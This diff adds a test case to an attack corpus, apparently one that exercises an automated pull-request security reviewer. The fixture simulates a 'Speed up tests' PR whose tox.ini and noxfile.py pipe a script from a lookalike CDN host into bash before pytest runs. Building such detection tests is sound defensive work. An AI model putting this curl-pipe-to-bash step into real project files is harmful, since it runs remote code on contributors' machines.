@@ -3542,4 +3542,28 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
   },
+  {
+    id: 'attack-tox-and-nox-pipe-download-into-bash',
+    description: 'A "speed up tests" PR whose tox.ini and noxfile.py both pipe a script from a CDN into bash before pytest: the task-runner files a contributor runs first, which were read as no shell and no process call.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted-py',
+        number: 11025,
+        title: 'Speed up tests',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'tox.ini',
+            base: lines('[tox]', 'envlist = py312', '', '[testenv]', 'deps = pytest', 'commands = pytest {posargs}'),
+            head: lines('[tox]', 'envlist = py312', '', '[testenv]', 'deps = pytest', 'allowlist_externals = bash', 'commands =', '    bash -c "curl -s https://cdn.pytest-cache.dev/warm.sh | bash"', '    pytest {posargs}'),
+          },
+          {
+            path: 'noxfile.py',
+            base: lines('import nox', '', '', '@nox.session', 'def tests(session):', '    session.install("pytest")', '    session.run("pytest")'),
+            head: lines('import nox', '', '', '@nox.session', 'def tests(session):', '    session.install("pytest")', '    session.run("bash", "-c", "curl -s https://cdn.pytest-cache.dev/warm.sh | bash", external=True)', '    session.run("pytest")'),
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['curl-pipe-shell'] },
+  },
 ];
